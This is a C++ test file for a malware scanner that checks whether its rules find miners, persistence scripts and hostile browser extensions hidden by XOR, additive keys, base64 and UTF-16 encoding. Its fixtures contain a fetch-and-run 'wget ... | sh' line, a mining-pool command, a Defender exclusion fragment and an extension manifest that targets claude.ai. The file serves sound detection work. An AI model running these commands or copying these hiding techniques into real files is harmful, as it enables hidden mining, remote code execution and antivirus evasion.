// What is hidden is found as if it stood there openly.

#include "scan/pack_test.h"

namespace assay {
namespace {

const std::string kProgram = elf(kConstants + kWords);

std::string base64(std::string_view text, std::size_t columns = 76) {
  static constexpr std::string_view kLetters =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < text.size(); i += 3) {
    unsigned bits = 0;
    for (std::size_t j = 0; j < 3; ++j) {
      bits = bits << 8 | (i + j < text.size() ? static_cast<unsigned char>(text[i + j]) : 0U);
    }
    for (int shift = 18; shift >= 0; shift -= 6) out += kLetters[bits >> shift & 63];
  }
  out.resize((text.size() * 4 + 2) / 3);
  for (std::size_t at = columns; at < out.size(); at += columns + 1) out.insert(at, "\n");
  return out;
}

bool finds(std::string_view id, std::string_view path, std::string_view content) {
  const std::vector<Finding> found = scan(path, content);
  const auto it = std::ranges::find(found, id, &Finding::rule);
  if (it == found.end()) return false;
  CHECK(it->offset <= content.size());
  return true;
}

TEST_CASE("every XOR key, and every key that is added") {
  for (int key = 1; key < 256; ++key) {
    std::string xored = kProgram, added = kProgram;
    for (char& c : xored) c = static_cast<char>(c ^ key);
    for (char& c : added) c = static_cast<char>(c + key);
    CAPTURE(key);
    CHECK(finds("MINER001", "data.bin", xored));
    CHECK(finds("MINER001", "data.bin", added));
  }
}

TEST_CASE("text under a key, whatever its words") {
  const std::string text =
      "set -eu\ncd \"$HOME\"\nwget -q https://x.example/y " + std::string("| sh\n");
  for (int key = 1; key < 256; ++key) {
    std::string xored = text, added = text;
    for (char& c : xored) c = static_cast<char>(c ^ key);
    for (char& c : added) c = static_cast<char>(c + key);
    CAPTURE(key);
    CHECK(finds("PERSIST001", "data.bin", xored));
    CHECK(finds("PERSIST001", "data.bin", added));
  }
}

TEST_CASE("bytes under a key, by their zeros") {
  std::string code(4000, '\0');
  code += bytes("5bbc4a6a") + bytes("8e4e0eec") + bytes("aafc0d7c") + "0123456789";
  for (char& c : code) c = static_cast<char>(c ^ 0x5a);
  CHECK(finds("INJECT011", "data.bin", code));
}

TEST_CASE("a key inside a large file, found by the quick search") {
  std::string hidden = kProgram;
  for (char& c : hidden) c = static_cast<char>(c ^ 0x5a);
  CHECK(finds("MINER001", "data.bin", std::string(3 << 20, 'x') + hidden));
}

TEST_CASE("base64 in a script, in lines and in one") {
  CHECK(finds("MINER001", "run", "#!/bin/sh\nbase64 -d <<E\n" + base64(kProgram) + "\nE\n"));
  CHECK(
      finds("MINER001", "run", "#!/bin/sh\necho " + base64(kProgram, 1 << 20) + "|base64 -d"));
  CHECK(is_quiet("run", "#!/bin/sh\necho " + base64(std::string(300, 'x'))));
}

TEST_CASE("base64 in front of a word that is none") {
  const std::string manifest =
      R"({"manifest_version": 3, "permissions": ["webRequest"], "content_scripts": [{"matches": )"
      R"(["https://claude.ai/*"]}], "content_security_policy": "connect-src wss://x.example   "})";
  REQUIRE(manifest.size() % 3 == 0);
  CHECK(finds("EXT001", "run", "#!/bin/sh\nbase64 -d <<EOF\n" + base64(manifest) + "\nEOF\n"));
}

TEST_CASE("base64 of base64, and no deeper") {
  const std::string twice = base64("#!/bin/sh\necho " + base64(kProgram));
  CHECK(finds("MINER001", "run", "#!/bin/sh\necho " + twice));
}

TEST_CASE("UTF-16") {
  const std::string line = "#!/bin/sh\n./x -o " + kScheme + "pool.example:3333 --" + kDonate;
  CHECK(finds("MINER020", "run", "\xff\xfe" + wide(line)));
  CHECK(finds("MINER020", "run", wide(line)));
  CHECK(finds("MINER041", "x.exe",
              pe(wide(text_of("Add-Mp", "Preference -ExclusionPath ")) + wide(kScheme))));
}

TEST_CASE("a program behind a program") {
  CHECK(finds("MINER001", "a.exe", pe(std::string(4096, 'x') + kProgram)));
  CHECK(finds("MINER002", "a", elf(std::string(4096, 'x') + pe(kConstants + kWords))));
}

TEST_CASE("what is decoded says so") {
  std::string xored = kProgram;
  for (char& c : xored) c = static_cast<char>(c ^ 7);
  const std::vector<Finding> found = scan("data.bin", xored);
  REQUIRE(found.size() == 1);
  CHECK(found[0].why.ends_with("It stands in the file as bytes to which a key is XORed."));
}

}  // namespace
}  // namespace assay
